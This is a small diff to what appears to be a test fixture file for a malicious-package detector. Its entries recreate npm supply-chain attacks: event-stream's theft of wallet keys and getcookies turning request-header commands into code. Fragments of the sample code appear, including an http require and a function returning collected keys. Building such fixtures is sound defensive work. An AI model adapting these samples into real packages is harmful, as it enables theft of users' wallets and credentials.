@@ -41,7 +41,7 @@ AT_IMPORT = (
         """,
         "test/data.js": 'module.exports = ["00112233445566778899aabbccddeeff102132435465768798", "686578", "75746638"];',
     }),
-    Attack("event-stream, second stage: the keys of a wallet that stands open", "STEAL-001", "import", {
+    Attack("event-stream, second stage: the keys of a wallet that stands open", "EXFIL-001", "call", {
         "package.json": '"main": "index.js"',
         "index.js": """
             const http = require("http");
@@ -66,7 +66,7 @@ AT_IMPORT = (
               return Object.freeze(keys);
             };
         """,
-    }, unseen="a private key that a method of another package hands out is no source"),
+    }),
     Attack("getcookies: commands in a header become code", "ENC-001", "call", {
         "package.json": '"main": "index.js"',
         "index.js": """
